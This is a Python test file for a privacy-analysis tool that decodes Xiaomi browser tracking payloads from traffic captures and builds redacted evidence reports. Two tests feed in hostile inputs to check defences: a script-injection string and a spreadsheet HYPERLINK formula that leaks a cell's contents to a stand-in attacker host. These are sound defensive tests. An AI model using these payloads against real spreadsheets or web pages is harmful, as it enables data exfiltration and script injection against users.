"""Evidence groups and worked examples (issue 19): counts per (app, mode, destination, data type),
one request per group decoded step by step from its capture, bounded, escaped, and redaction-safe."""

from __future__ import annotations

import base64
import gzip
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from mitmproxy import http, io
from mitmproxy.test import tflow

from phonehome.analysis.pipeline import analyze
from phonehome.analysis.report import build_report, render_html, render_markdown, write_report
from phonehome.analysis.report.evidence import evidence_groups
from phonehome.analysis.report.worked import path_tokens, render_structure, worked_examples

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "captures" / "sample-mint-browser"
PROFILE = json.loads((SAMPLE / "profile.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def sample():
    return analyze([SAMPLE])


def _group(groups: pd.DataFrame, mode: str, host: str, data_type: str) -> pd.Series:
    hit = groups[(groups["mode"] == mode) & (groups["host"] == host) & (groups["data_type"] == data_type)]
    assert len(hit) == 1
    return hit.iloc[0]


def test_groups_count_findings_requests_and_values(sample):
    groups = evidence_groups(sample.findings, sample.flows)
    f = sample.findings
    for g in groups.itertuples(index=False):
        rows = f[
            (f["app"] == g.app)
            & (f["mode"] == g.mode)
            & (f["host"] == g.host)
            & (f["data_type"] == g.data_type)
        ]
        assert (g.findings, g.requests, g.values) == (
            len(rows),
            rows["flow_id"].nunique(),
            rows["value"].nunique(),
        )
    assert groups["findings"].sum() == len(f)
    url = _group(groups, "normal", "sa.api.intl.miui.com", "url")
    assert url.phases == "normal-browsing"  # the phase, from the flows (the findings table has none)
    assert groups["evidence_id"].is_unique and groups["evidence_id"].str.fullmatch(r"ev-[0-9a-f]{12}").all()
    # story order: the browsing data first
    assert list(groups["data_type"][:2]) in (["url", "url"], ["url", "search_query"])


def test_worked_example_undoes_each_layer_of_the_sensors_batch(sample):
    groups = evidence_groups(sample.findings, sample.flows)
    examples = worked_examples(groups, sample.flows)
    g = _group(groups, "incognito", "sa.api.intl.miui.com", "search_query")
    example = examples[g.evidence_id]
    titles = [s.title for s in example.steps]
    assert titles[0].startswith("The request body as sent (")
    assert [t.split(" ")[0] for t in titles[1:]] == ["Split", "Decode", "Undo", "Parse", "The"]
    assert "base64" in titles[2] and "gzip" in titles[3]
    assert example.steps[0].body_text.startswith("crc=")  # the raw form body
    assert "\\x1f\\x8b" in example.steps[2].body_text  # gzip magic, after base64
    parsed = str(example.steps[4].body)
    assert "<mark>&#34;divorce lawyer near me&#34;</mark>" in parsed or "<mark>&quot;divorce" in parsed
    assert example.steps[-1].body_text == "divorce lawyer near me"
    assert example.request.startswith("POST https://sa.api.intl.miui.com/")


def test_examples_cover_protobuf_msgpack_jwt_and_url_path(sample):
    groups = evidence_groups(sample.findings, sample.flows)
    examples = worked_examples(groups, sample.flows)
    cases = {
        ("app-measurement.com", "device_id.advertising_id"): "Protocol Buffers",
        ("api.ad.intl.xiaomi.com", "device_id.oaid"): "MessagePack",
        ("api.browser.intl.miui.com", "user_id"): "JSON Web Token",
        ("tracking.intl.miui.com", "device_id.android_id"): "Segment 3 of the URL path",
    }
    for (host, data_type), word in cases.items():
        g = _group(groups, "normal", host, data_type)
        example = examples[g.evidence_id]
        assert any(word in s.title for s in example.steps), (host, [s.title for s in example.steps])
        assert "<mark>" in str(example.steps[-1].body)
    assert len(examples) >= len(groups) - 1  # every group that the decoder reproduces


def test_structure_view_is_focused_and_bounded():
    batch = [
        {"event": f"e{i}", "properties": {"url": f"https://x.example/{i}", "pad": "y" * 5000}}
        for i in range(500)
    ]
    text = render_structure(batch, [321, "properties", "url"])
    assert "… 321 items before" in text and "… 178 items after" in text
    assert '"https://x.example/321"' in text and "https://x.example/320" not in text
    assert len(text) < 1200
    assert path_tokens('body.data_list[2].properties["a.b"].$url') == [
        "body",
        "data_list",
        2,
        "properties",
        "a.b",
        "$url",
    ]


def _dump_with(tmp_path: Path, body: bytes, headers: dict[str, str]) -> Path:
    flow = tflow.tflow(resp=True)
    flow.request = http.Request.make("POST", "https://collect.tracker.example/v1/batch", body, headers)
    flow.metadata["phonehome"] = {
        "session": "s",
        "app": "com.example.browser",
        "mode": "incognito",
        "phase": "p1",
    }
    path = tmp_path / "x.mitm"
    with path.open("wb") as handle:
        io.FlowWriter(handle).add(flow)
    return path


def test_hostile_and_huge_payloads_are_escaped_and_bounded(tmp_path):
    events = [{"url": "https://news.example/<script>document.title='pwned'</script>", "pad": "z" * 200_000}]
    body = b"data=" + base64.b64encode(gzip.compress(json.dumps(events).encode()))
    dump = _dump_with(tmp_path, body, {"content-type": "application/x-www-form-urlencoded"})
    report = build_report(analyze([dump]))
    html = render_html(report, plots=False)
    assert "<script" not in html
    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
    assert html.count("z" * 1000) == 0  # 200 kB of padding is not copied into the page
    assert len(html) < 60_000
    md = render_markdown(report)
    assert "Worked example:" in md
    fenced = False
    for line in md.splitlines():
        fenced ^= line.strip().startswith("~~~")
        outside = re.sub(r"(`+)(?:(?!\1).)*?\1", "", line)
        assert fenced or line.strip().startswith("~~~") or "<" not in outside, line


def test_redacted_examples_show_no_identifier_in_any_layer(sample, tmp_path):
    report = build_report(sample, redact=True)
    write_report(report, tmp_path / "r.html")
    write_report(report, tmp_path / "r.md")
    secrets = [
        PROFILE["android_id"],
        PROFILE["advertising_id"],
        PROFILE["oaid"],
        *PROFILE["imei"],
        PROFILE["serial"],
    ]
    for name in ("r.html", "r.md"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert "Worked example" in text
        for secret in secrets:
            assert secret not in text and secret.upper() not in text, (name, secret)
        assert "not shown in a redacted report" in text
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert re.search(r"<mark>&#34;redacted-[0-9a-f]{8}&#34;</mark>|<mark>&quot;redacted-", html)
    assert "divorce lawyer near me" in html  # search terms stay: they are the finding


def test_tables_hold_every_row_the_page_does_not(sample, tmp_path):
    written = write_report(build_report(sample), tmp_path / "r.html")
    tables = written[1].parent
    groups = pd.read_csv(tables / "evidence_groups.csv", keep_default_na=False)
    evidence = pd.read_csv(tables / "evidence.csv", keep_default_na=False)
    assert len(evidence) == len(sample.findings) and groups["findings"].sum() == len(evidence)
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert html.count('<article class="group"') == len(groups)


def test_report_csv_tables_are_spreadsheet_safe(tmp_path):
    from tests.support_report import analysis_of, finding

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    report = build_report(analysis_of([finding("normal", "h.example.com", "search_query", formula)]))
    written = write_report(report, tmp_path / "r.html")
    evidence = (written[1].parent / "evidence.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in evidence and ',"=HYPERLINK(' not in evidence
    assert pd.read_parquet(written[1].parent / "evidence.parquet")["value"].tolist() == [formula]  # data kept


def test_a_redacted_worked_example_hides_a_key_that_is_an_email_address():
    from phonehome.analysis.report.worked import render_structure

    body = {"tester.key@example.org": {"android_id": "9c2f41a7e3b5d810"}, "event": "page"}
    shown = render_structure(body, ["tester.key@example.org", "android_id"], redacted=True, target="[id]")
    assert "tester.key@example.org" not in shown and '"event"' in shown
    assert "tester.key@example.org" in render_structure(body, [], redacted=False)
